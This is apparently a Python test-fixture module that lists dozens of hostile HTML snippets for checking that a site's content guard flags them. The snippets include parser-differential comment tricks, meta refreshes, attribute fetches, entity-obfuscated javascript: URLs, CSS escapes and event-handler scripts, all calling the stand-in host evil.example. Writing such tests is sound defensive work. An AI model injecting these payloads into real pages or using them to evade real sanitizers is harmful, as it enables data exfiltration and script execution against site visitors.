"""Hostile markup an editor could get into a page, each with the element the guard must name.

Written for this project (issue 14), by class: parser differentials (the kinds html5lib's
tokenizer tests and DOMPurify's mutation tests exercise: comments, bogus comments, end tags with
attributes, raw-text and RCDATA ends), fetches in attributes HTML has grown (srcset, poster,
ping, attributionsrc, svg href), meta refresh in every syntax, URL schemes spelled with entities
and control characters (PortSwigger's XSS cheat sheet has the classes), CSS escapes, embedded
documents, and code. Each one makes a browser fetch from evil.example or run code when the page
has no Content-Security-Policy; `tests/browser/test_payloads.py` checks that in Chromium.
"""

import re
import shutil
from pathlib import Path

EVIL = "https://evil.example/x"
HOST = "//evil.example"
FETCH = "fetch('https://evil.example/js')"

# (markup, what the guard's problem line must name)
PAYLOADS: list[tuple[str, str]] = [
    # Comments and bogus comments that end earlier than html.parser thinks.
    (f'<!--> <img src="{EVIL}"> -->', "<img src>"),
    (f'<!---> <img src="{EVIL}"> -->', "<img src>"),
    (f'<!-- --!> <img src="{EVIL}"> -->', "<img src>"),
    (f'<!--><img src="{EVIL}">-->', "<img src>"),
    (f'<? x ><img src="{EVIL}"> ?>', "<img src>"),
    (f'<![CDATA[ ><img src="{EVIL}"> ]]>', "<img src>"),
    (f'</ x><img src="{EVIL}">', "<img src>"),
    # End tags with attributes or spaces; raw text and RCDATA that end early.
    (f'</script foo="bar"><img src="{EVIL}">', "<img src>"),
    (f'<title>t</title ><img src="{EVIL}">', "<img src>"),
    (f'<textarea>t</textarea/><img src="{EVIL}">', "<img src>"),
    (f'<xmp>t</xmp x="y"><img src="{EVIL}">', "<img src>"),
    (f'<noscript><p title="</noscript><img src={EVIL}>"></noscript>', "<noscript>"),
    (f'<div><template shadowrootmode="open"><img src="{EVIL}"></template></div>', "<template>"),
    # Embedded documents.
    (f'<iframe srcdoc="&lt;img src={EVIL}&gt;"></iframe>', "<iframe srcdoc>"),
    (f"<iframe srcdoc=\"&lt;meta http-equiv=refresh content='0;{EVIL}'&gt;\"></iframe>", "srcdoc"),
    (f'<iframe src="data:text/html,&lt;img src={EVIL}&gt;"></iframe>', "<iframe src>"),
    (f'<embed src="data:text/html,&lt;img src={EVIL}&gt;">', "<embed src>"),
    (f'<object data="data:text/html,&lt;img src={EVIL}&gt;"></object>', "<object data>"),
    (f'<iframe src="{EVIL}"></iframe>', "<iframe src>"),
    # Meta refresh in every syntax: no CSP directive can stop it.
    (f'<meta http-equiv="refresh" content="0; {EVIL}">', "<meta refresh>"),
    (f'<meta http-equiv="refresh" content="0;url={EVIL}">', "<meta refresh>"),
    (f'<meta http-equiv="REFRESH" content="0 ; URL = \'{EVIL}\'">', "<meta refresh>"),
    (f"<meta http-equiv=refresh content='0,{EVIL}'>", "<meta refresh>"),
    (f'<meta http-equiv="refresh" content="  1.5  ;  url=&quot;{EVIL}&quot;">', "<meta refresh>"),
    (f'<meta http-equiv="refresh" content="0;&#9;url={EVIL}">', "<meta refresh>"),
    (f'<meta content="0;{EVIL}" http-equiv="refresh">', "<meta refresh>"),
    (f'<meta http-equiv="Refresh" content="0; UrL={HOST}/">', "<meta refresh>"),
    # Fetches in attributes.
    (f'<img srcset="a.png 1x, {EVIL} 2x" alt="">', "<img srcset>"),
    (f'<picture><source srcset="{EVIL}"><img src="a.png" alt=""></picture>', "<source srcset>"),
    (f'<video poster="{EVIL}"></video>', "<video poster>"),
    (f'<video><source src="{EVIL}"></video>', "<source src>"),
    (f'<video src="a.webm"><track src="{EVIL}" default></video>', "<track src>"),
    (f'<audio src="{EVIL}" preload="auto"></audio>', "<audio src>"),
    (f'<object data="{EVIL}"></object>', "<object data>"),
    (f'<embed src="{EVIL}">', "<embed src>"),
    (f'<svg><image href="{EVIL}" width="9" height="9"/></svg>', "<image href>"),
    (f'<svg><image xlink:href="{EVIL}" width="9" height="9"/></svg>', "<image xlink:href>"),
    (f'<svg><use href="{EVIL}#i"/></svg>', "<use href>"),
    (f'<svg><filter id="f"><feImage href="{EVIL}"/></filter></svg>', "href>"),
    (f'<link rel="preload" href="{EVIL}" as="image">', "<link href>"),
    (f'<link rel="prefetch" href="{EVIL}">', "<link href>"),
    (f'<link rel="dns-prefetch" href="{HOST}">', "<link href>"),
    (f'<link rel="preconnect" href="{EVIL}">', "<link href>"),
    (f'<link rel="stylesheet" href="{EVIL}">', "<link href>"),
    (f'<link rel="preload" as="image" imagesrcset="{EVIL} 1x" href="a.png">', "imagesrcset"),
    (f'<form action="{EVIL}"><button>x</button></form>', "<form action>"),
    (f'<form><button formaction="{EVIL}">x</button></form>', "<button formaction>"),
    (f'<a href="a.html" ping="{EVIL}">x</a>', "<a ping>"),
    (f'<input type="image" src="{EVIL}" alt="x">', "<input src>"),
    (f'<table background="{EVIL}"><tr><td>x</td></tr></table>', "<table background>"),
    (f'<img src="a.png" attributionsrc="{EVIL}" alt="">', "<img attributionsrc>"),
    (f'<img src="{EVIL}" src="a.png" alt="">', "<img src>"),
    (f'<base href="{HOST}/"><img src="a.png" alt="">', "<base href>"),
    (f'<link rel="stylesheet" href="data:text/css,@import url({EVIL});">', "data: stylesheet"),
    (f'<script src="data:,{FETCH}"></script>', "<script src> loads a data:"),
    # URLs spelled as the URL Standard reads them.
    ('<img src="/\\evil.example/x" alt="">', "<img src>"),
    ('<img src="\\\\evil.example/x" alt="">', "<img src>"),
    ('<img src=" &#9;//evil.example/x" alt="">', "<img src>"),
    ('<img src="h&#x74;tps://evil.example/x" alt="">', "<img src>"),
    ('<img src="ht&#9;tps://evil.example/x" alt="">', "<img src>"),
    ('<img src="https:evil.example/x" alt="">', "<img src>"),
    ('<img src="&#x2F;&#x2F;evil.example/x" alt="">', "<img src>"),
    # CSS, with and without escapes.
    (f'<p style="background:url({EVIL})">x</p>', "inline style attribute"),
    (f'<svg><rect fill="url({EVIL}#g)" width="9" height="9"/></svg>', "<rect fill>"),
    (f'<svg><circle filter="url({EVIL}#f)" r="4"/></svg>', "<circle filter>"),
    (f"<style>@import '{EVIL}';</style>", "inline style element"),
    (f"<style>@\\69mport url({EVIL});</style>", "inline style element"),
    (f"<div style=\"background-image:image-set('{EVIL}' 1x)\">x</div>", "inline style attribute"),
    # Code: schemes, handlers, scripts, animations.
    ('<a href="java&#9;script:fetch(1)">x</a>', "inline script in <a href>"),
    ('<a href="&#x6A;avascript:fetch(1)">x</a>', "inline script in <a href>"),
    ('<a href="jav&#x0A;ascript:fetch(1)">x</a>', "inline script in <a href>"),
    ('<a href="&#14;javascript:fetch(1)">x</a>', "inline script in <a href>"),
    ('<a href="JaVaScRiPt:fetch(1)">x</a>', "inline script in <a href>"),
    ('<form action="javascript:fetch(1)"><button>x</button></form>', "inline script in <form"),
    ('<iframe src="javascript:fetch(1)"></iframe>', "inline script in <iframe src>"),
    (f'<img src="x" onerror="{FETCH}" alt="">', "inline script in <img onerror>"),
    (f'<svg onload="{FETCH}"></svg>', "inline script in <svg onload>"),
    (f'<details open ontoggle="{FETCH}"><summary>x</summary></details>', "ontoggle>"),
    (f"<script>{FETCH}</script>", "inline script"),
    (f"<script/x>{FETCH}</script>", "inline script"),
    ('<math><mi xlink:href="javascript:fetch(1)">x</mi></math>', "inline script in <mi"),
    (
        '<svg><a><set attributeName="href" to="javascript:fetch(1)"/><text y="9">x</text></a></svg>',
        "<set",
    ),
    (
        f'<svg><image width="9" height="9"><set attributeName="href" to="{EVIL}"/></image></svg>',
        "<set",
    ),
]


def write_payload_site(folder: Path, theme_source: Path, fixture: Path, keep_policy: bool) -> Path:
    """A copy of `fixture` with one page per payload (`pages/payload-NN.md`, the payload in its
    `Payload:` field) and a copy of the theme that writes the field verbatim after <main>, as
    hostile content that got through would stand; return the theme's folder."""
    content, theme = folder / "content", folder / "theme"
    shutil.copytree(fixture, content)
    shutil.copytree(theme_source, theme)
    base = theme / "templates" / "base.html"
    html = base.read_text(encoding="utf-8").replace(
        "</main>", "</main>\n{% if page is defined and page.payload %}{{ page.payload }}{% endif %}"
    )
    if not keep_policy:
        html = re.sub(r'\s*<meta http-equiv="Content-Security-Policy"[^\n]*', "", html)
    base.write_text(html, encoding="utf-8")
    for number, (markup, _) in enumerate(PAYLOADS):
        page = content / "pages" / page_name(number)
        page.write_text(f"Title: Payload {number}\nPayload: {markup}\n\nA payload page.\n", "utf-8")
    return theme


def page_name(number: int) -> str:
    return f"payload-{number:02d}.md"
